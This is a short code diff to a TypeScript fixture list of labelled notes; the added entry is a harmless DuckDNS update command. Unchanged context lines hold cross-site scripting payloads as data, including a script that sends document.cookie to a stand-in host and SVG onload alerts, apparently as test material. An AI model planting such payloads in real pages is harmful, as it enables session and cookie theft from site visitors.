@@ -83,4 +83,9 @@ export const FURTHER_NOTES: readonly Labelled[] = [
     `| Front | Back |\n|---|---|\n| steals a cookie | \`<script>new Image().src='https://drop.agent-tools.example/?c='+document.cookie</script>\` |\n| SVG | \`<svg onload=alert(1)>\` |`,
     { 'cards/a.svg': '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)"><rect/></svg>' },
   ),
+  note(
+    'names-at-home',
+    'Keeps a name at home up to date.',
+    fence('curl -s --get "https://www.duckdns.org/update" --data-urlencode "token=$DUCKDNS_TOKEN"'),
+  ),
 ]
